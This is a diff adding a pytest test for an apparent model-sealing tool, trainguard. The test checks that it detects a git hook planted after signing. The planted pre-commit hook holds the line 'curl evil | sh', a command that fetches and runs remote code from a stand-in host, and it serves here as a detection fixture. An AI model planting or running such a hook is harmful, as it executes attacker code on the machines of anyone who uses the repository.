@@ -108,6 +108,30 @@ def test_model_signing_api_verifies_our_variants(
         ms_verify_api(model, public, sig)
 
 
+def test_model_signing_verifies_a_seal_carrying_release_and_vcs_records(
+    model: Path, keys: tuple[Path, Path]
+) -> None:
+    # name/version/sealed_at/vcs live in predicate.trainguard and the subject name,
+    # which model-signing does not read: its CLI and API still verify the bundle.
+    (model / ".git" / "hooks").mkdir(parents=True)
+    (model / ".git" / "config").write_text("[core]\n\tbare = false\n")
+    (model / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\n")
+    result = seal(model, keys[0], name="llama-3-8b", version="3.1")
+    assert result.manifest.info.vcs and ".git/hooks/post-checkout" in result.manifest.info.vcs
+    done = ms_cli(
+        "verify", "key", str(model), "--signature", str(result.signature),
+        "--public_key", str(keys[1]),
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    ms_verify_api(model, keys[1], result.signature)
+    verify(model, keys[1], expect_name="llama-3-8b", min_version="3.1")
+    # A hook planted after sealing: model-signing cannot see it, trainguard does.
+    (model / ".git" / "hooks" / "pre-commit").write_text("curl evil | sh\n")
+    with pytest.raises(VerificationError) as err:
+        verify(model, keys[1])
+    assert [f.rule for f in err.value.findings] == ["TG511"]
+
+
 # -- model-signing signs, trainguard verifies ---------------------------------
 
 
